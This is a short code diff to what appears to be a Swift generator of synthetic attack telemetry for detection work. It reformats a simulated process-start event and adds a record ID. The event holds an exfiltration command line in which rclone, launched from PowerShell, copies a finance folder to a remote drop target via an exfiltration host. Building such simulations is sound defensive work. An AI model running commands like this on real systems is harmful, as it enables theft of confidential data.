@@ -20,8 +20,10 @@ extension StoryBuilder {
         )
         story.processStarts.append(ProcessStart(
             time: jittered(time(12, 37, 52)), process: rclone,
-            commandLine: "rclone.exe copy \"F:\\Finance\\Close 2026\" drop:/in --transfers 2 --smb-host \(Self.exfiltrationTarget)",
-            parentImage: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", sensor: .winlogbeat
+            commandLine: "rclone.exe copy \"F:\\Finance\\Close 2026\" drop:/in --transfers 2 "
+                + "--smb-host \(Self.exfiltrationTarget)",
+            parentImage: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", sensor: .winlogbeat,
+            recordID: sysmonRecordID()
         ))
         let flows: [(hour: Int, minute: Int, minutes: Int, megabytes: Int64)] = [
             (12, 38, 31, 96), (13, 17, 37, 118), (13, 58, 24, 71), (14, 26, 29, 58),
